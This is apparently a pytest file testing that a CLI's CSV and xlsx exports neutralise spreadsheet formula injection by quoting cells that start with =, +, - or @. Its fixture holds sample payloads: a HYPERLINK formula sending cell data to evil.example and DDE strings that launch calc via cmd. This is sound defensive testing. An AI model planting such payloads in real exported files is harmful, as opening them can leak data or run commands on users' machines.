"""`innoscope export` writes cells a spreadsheet would run as formulas as text (issue 9, defect 3).

The cited file is the bundled one with hostile source titles and notes in four rows (OWASP's leading
characters =, +, -, @). The expected cells are OWASP's rule applied by hand: a leading single quote in CSV;
in xlsx the same text as a string cell (never an ``<f>`` element in the sheet XML, read with zipfile).
"""

from __future__ import annotations

import csv
import re
import zipfile

import openpyxl
import pytest

from innoscope.cities.cited import bundled_path
from innoscope.cli import main

HOSTILE = {
    0: ("source_title", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    1: ("notes", "=cmd|' /C calc'!A0"),
    2: ("source_title", "@SUM(1+1)*cmd|' /C calc'!A0"),
    3: ("notes", "+1+cmd|' /C calc'!A0"),
    4: ("notes", "-2+3"),
}


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with open(bundled_path(), encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    header = list(rows[0])
    for i, (col, text) in HOSTILE.items():
        rows[i][col] = text
    with open(tmp_path / "hostile.csv", "w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=header)
        w.writeheader()
        w.writerows(rows)
    return tmp_path


def _csv_cells(path):
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_csv_export_quotes_formula_text_and_keeps_numbers(hostile, capsys):
    assert main(["export", "--data", "hostile.csv", "--csv", "out"]) == 0
    rows = _csv_cells(hostile / "out" / "observations.csv")
    cells = {c for r in rows for c in r}
    for _, text in HOSTILE.values():
        assert "'" + text in cells
        assert text not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    header = rows[0]
    value = [r[header.index("value")] for r in rows[1:]]
    assert all(v == "" or float(v) == float(v) for v in value) and not any(v.startswith("'") for v in value)
    cities = _csv_cells(hostile / "out" / "cities.csv")
    score = [r[cities[0].index("score")] for r in cities[1:]]
    assert all(0 <= float(s) <= 100 for s in score if s)


def test_xlsx_export_writes_formula_text_as_strings(hostile, capsys):
    assert main(["export", "--data", "hostile.csv", "--xlsx", "all.xlsx"]) == 0
    with zipfile.ZipFile(hostile / "all.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(z.read(n) for n in sheets)
    assert re.search(rb"<f[ >]", xml) is None
    ws = openpyxl.load_workbook(hostile / "all.xlsx")["observations"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for _, text in HOSTILE.values():
        assert text in cells, text
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    header = [c.value for c in ws[1]]
    values = [r[header.index("value")].value for r in ws.iter_rows(min_row=2)]
    assert any(isinstance(v, float) for v in values)
    assert all(v is None or isinstance(v, (int, float)) for v in values)
